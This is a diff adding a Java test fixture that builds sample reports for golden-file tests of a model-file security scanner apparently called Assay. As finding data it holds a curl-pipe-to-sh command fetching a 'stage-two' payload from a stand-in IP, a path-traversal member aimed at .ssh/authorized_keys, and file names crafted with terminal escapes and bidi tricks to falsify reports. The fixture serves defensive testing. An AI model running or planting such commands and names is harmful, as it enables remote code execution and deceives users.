@@ -1,0 +1,289 @@
+package dev.assay.app.render;
+
+import dev.assay.engine.report.Coverage;
+import dev.assay.engine.report.Finding;
+import dev.assay.engine.report.Gap;
+import dev.assay.engine.report.GapKind;
+import dev.assay.engine.report.Location;
+import dev.assay.engine.report.Performance;
+import dev.assay.engine.report.ReferenceData;
+import dev.assay.engine.report.ReportSink;
+import dev.assay.engine.report.Severity;
+import dev.assay.engine.report.Summary;
+import dev.assay.engine.report.Suppressed;
+import dev.assay.engine.report.Verdict;
+import dev.assay.engine.rule.RuleBook;
+import java.time.Instant;
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.EnumMap;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+
+/** Fixed reports for the golden files and the laws that every renderer keeps. */
+final class SampleReports {
+    record Report(List<Object> parts, Summary summary) {
+        void to(ReportSink sink) {
+            for (Object part : parts) {
+                switch (part) {
+                    case Finding finding -> sink.finding(finding);
+                    case Gap gap -> sink.gap(gap);
+                    case Suppressed suppressed -> sink.suppressed(suppressed);
+                    default -> throw new IllegalArgumentException(part.toString());
+                }
+            }
+            sink.end(summary);
+        }
+    }
+
+    private SampleReports() {}
+
+    static RuleBook book() {
+        return new RuleBook(List.of(SampleReports.class.getResource("/golden/rules.yaml")));
+    }
+
+    static Map<String, Report> all() {
+        Map<String, Report> all = new TreeMap<>();
+        all.put("empty", empty());
+        all.put("one", one());
+        all.put("full", full());
+        all.put("hostile", hostile());
+        return all;
+    }
+
+    static Report empty() {
+        return report(List.of(), Verdict.CLEAN, false, performance(12, 0, 0, 0));
+    }
+
+    static Report one() {
+        Location at = new Location("model.pkl", "", List.of(), 21, 0, 0);
+        return report(
+                List.of(osCommand(at, "posix.system", "'id'")), Verdict.UNSAFE, false, performance(85, 4096, 0, 1));
+    }
+
+    /** Every kind of finding and gap, folded and not. */
+    static Report full() {
+        List<Object> parts = new ArrayList<>();
+        Location models = Location.of("models", "resnet/weights v2.pt");
+        parts.add(osCommand(
+                models.entry("archive/data.pkl").at(1042),
+                "posix.system",
+                "'curl -fsS http://203.0.113.7/payload/stage-two.sh?campaign=autumn | sh -s -- --quiet --no-color'"));
+        parts.add(osCommand(Location.of("models", "evil.pkl").at(3), "subprocess.Popen", "['id']"));
+        for (int i = 0; i < 12; i++) {
+            parts.add(unknownCallable(
+                    Location.of("models", "shards/part-" + i + ".pkl").at(17), "myproject.nn.Layer", 1));
+        }
+        for (int i = 0; i < 14; i++) {
+            parts.add(unknownCallable(Location.of("models", "zoo.pkl").at(100 + i), "zoo.layers.Block" + i, i + 1));
+        }
+        parts.add(new Finding(
+                "archive/path-traversal",
+                "archive",
+                Severity.HIGH,
+                "Member that is written outside of the folder",
+                "The member ../../.ssh/authorized_keys leaves the folder into which the archive is unpacked.",
+                "Do not unpack it with a tool that follows such names.",
+                List.of(),
+                "4f1c2d3e4f5061728394a5b6c7d8e9f0",
+                new Location("/data/in", "outer.zip", List.of("inner.tar.gz", "../../.ssh/authorized_keys"), 512, 0, 0),
+                Map.of("member", "../../.ssh/authorized_keys")));
+        parts.add(new Finding(
+                "manifest/unpinned",
+                "manifest",
+                Severity.LOW,
+                "Dependency without a version",
+                "Whatever is newest on the day of the build is installed.",
+                "Pin it.",
+                List.of("https://pip.pypa.io/en/stable/topics/repeatable-installs/"),
+                "00000000000000000000000000000001",
+                new Location("models", "requirements.txt", List.of(), -1, 7, 3),
+                Map.of("name", "numpy")));
+        for (int i = 0; i < 3; i++) {
+            parts.add(new Finding(
+                    "model/framework-callable",
+                    "model",
+                    Severity.INFO,
+                    "Callable of a known framework",
+                    "Names torch._utils._rebuild_tensor_v2.",
+                    "Nothing.",
+                    List.of(),
+                    "0000000000000000000000000000000" + (2 + i),
+                    Location.of("hf://acme/large model", "m" + i + ".bin")
+                            .entry("data.pkl")
+                            .at(9),
+                    new TreeMap<>(Map.of("callable", "torch._utils._rebuild_tensor_v2", "count", "1,204"))));
+        }
+        for (GapKind kind : GapKind.values()) {
+            parts.add(new Gap(kind, Location.of("models", "gaps/" + kind.id() + ".bin"), reason(kind), -1));
+        }
+        for (int i = 0; i < 5; i++) {
+            parts.add(new Gap(
+                    GapKind.MALFORMED,
+                    Location.of("models", "broken-" + i + ".zip").entry("x").at(17),
+                    "ends within the argument of BINUNICODE",
+                    1_234_567));
+        }
+        parts.add(new Suppressed(
+                "model/os-command",
+                Location.of("models", "known.pkl").at(2),
+                "000000000000000000000000000000ff",
+                "baseline"));
+        parts.add(new Suppressed("file", Location.of("models", "attic/old.pkl"), "", ".assayignore"));
+        return report(parts, Verdict.UNSAFE, true, performance(134_567, 12_345_678_901L, 960, 40));
+    }
+
+    /** Names as somebody would choose them who wants the report to lie. */
+    static Report hostile() {
+        List<Object> parts = new ArrayList<>();
+        String[] names = {
+            "\u001b[2J\u001b[1;32mCLEAN\u001b[0m.pkl",
+            "line\nCLEAN  no findings\r\u0007.pkl",
+            "invoice\u202efdp.pkl",
+            "c1\u009b31mred\u0085.pkl",
+            "zero\u200bwidth\ufeff\u2066iso\u2069.pkl",
+            "lone\ud83d.pkl",
+            "\udc00low.pkl",
+            "ein schöner Name 模型 🤗 é.pkl",
+            "[click](https://evil.example) {0} `code` <b>bold</b> **x**.pkl",
+            "quote\" back\\slash 'single' \u2028\u2029\u0000.pkl",
+            "a:b?c#d%zz e&f;g.pkl",
+            "long-" + "0123456789".repeat(300) + ".pkl",
+        };
+        for (String name : names) {
+            Location at =
+                    Location.of("up/../load", Location.escape(name)).entry(name).at(1);
+            parts.add(osCommand(at, name, name));
+            parts.add(new Gap(GapKind.UNSUPPORTED, at, "opcode in " + name, 3));
+            parts.add(new Suppressed("model/os-command", at, "ff", name));
+        }
+        return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
+    }
+
+    static Report of(List<Object> parts) {
+        return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
+    }
+
+    static Finding osCommand(Location at, String callable, String arguments) {
+        return new Finding(
+                "model/os-command",
+                "model",
+                Severity.CRITICAL,
+                "Runs a command when it is loaded",
+                "Loading this calls " + callable
+                        + ", which runs a command of the author's choice with the rights of whoever loads it.",
+                "Do not load it. Ask its source for a safetensors file, and search where it has been loaded already.",
+                List.of(
+                        "https://docs.python.org/3/library/pickle.html#module-pickle",
+                        "https://cwe.mitre.org/data/definitions/502.html"),
+                "9f86d081884c7d659a2feaa0c55ad015",
+                at,
+                new TreeMap<>(Map.of("callable", callable, "arguments", arguments)));
+    }
+
+    private static Finding unknownCallable(Location at, String callable, int count) {
+        return new Finding(
+                "model/unknown-callable",
+                "model",
+                Severity.MEDIUM,
+                "Calls something that Assay does not know",
+                "Loading this calls " + callable + ". Whether that is safe depends on what is installed.",
+                "Look at the callable, and allow it if it is yours.",
+                List.of("https://docs.python.org/3/library/pickle.html"),
+                "2c26b46b68ffc68ff99b453c1d304134",
+                at,
+                new TreeMap<>(Map.of("callable", callable, "count", String.valueOf(count))));
+    }
+
+    private static String reason(GapKind kind) {
+        return switch (kind) {
+            case MALFORMED -> "opcode 0xff does not exist";
+            case UNSUPPORTED -> "pickle protocol 6";
+            case ENCRYPTED -> "encrypted with AES-256";
+            case LIMIT -> "deeper than 16 archives in one another";
+            case UNREADABLE -> "permission denied";
+            case UNREACHABLE -> "no answer from models.example within 30 s";
+            case CHANGED -> "the file changed while it was read";
+            case OPAQUE -> "bytes that no known loader interprets were not looked into";
+            case INTERRUPTED -> "the scan was interrupted";
+            case INTERNAL ->
+                "the decoder of pickle failed: ArithmeticException: long overflow (PickleMachine.java:214)";
+        };
+    }
+
+    private static Performance performance(long wallMillis, long bytesRead, long hits, long misses) {
+        return new Performance(
+                Instant.parse("2026-03-01T10:15:30.250Z"),
+                wallMillis,
+                2 * wallMillis,
+                163_577_856,
+                bytesRead,
+                hits,
+                misses,
+                0);
+    }
+
+    private static Report report(List<Object> parts, Verdict verdict, boolean interrupted, Performance performance) {
+        Map<Severity, Long> counts = new EnumMap<>(Severity.class);
+        List<String> targets = new ArrayList<>();
+        long gaps = 0;
+        long suppressed = 0;
+        for (Object part : parts) {
+            Location at;
+            switch (part) {
+                case Finding finding -> {
+                    counts.merge(finding.severity(), 1L, Long::sum);
+                    at = finding.location();
+                }
+                case Gap gap -> {
+                    gaps++;
+                    at = gap.location();
+                }
+                case Suppressed each -> {
+                    suppressed++;
+                    at = each.location();
+                }
+                default -> throw new IllegalArgumentException(part.toString());
+            }
+            if (!targets.contains(at.target())) {
+                targets.add(at.target());
+            }
+        }
+        boolean full = interrupted;
+        Coverage coverage = full
+                ? new Coverage(
+                        1000,
+                        2468,
+                        11_000_000_000L,
+                        1_345_678_901L,
+                        12_345_678_901L,
+                        new TreeMap<>(Map.of("pickle", 1800L, "zip", 600L, "tar", 1L, "gzip", 1L, "unknown", 66L)),
+                        new TreeMap<>(Map.of("sockets", 2L, "links to what was seen before", 7L)))
+                : new Coverage(
+                        parts.isEmpty() ? 0 : 1,
+                        parts.isEmpty() ? 0 : 1,
+                        parts.isEmpty() ? 0 : 4096,
+                        0,
+                        parts.isEmpty() ? 0 : 4096,
+                        parts.isEmpty() ? Map.of() : Map.of("pickle", 1L),
+                        Map.of());
+        Summary summary = new Summary(
+                verdict,
+                gaps > 0,
+                interrupted,
+                LocalDate.of(2026, 3, 1),
+                targets,
+                counts,
+                full ? 300 : 0,
+                gaps,
+                suppressed,
+                coverage,
+                full
+                        ? List.of(new ReferenceData(
+                                "popular-packages", "2026.02", "2026-02-27", "sha256:5e884898da28047151d0e56f8dc62927"))
+                        : List.of(),
+                performance);
+        return new Report(parts, summary);
+    }
+}
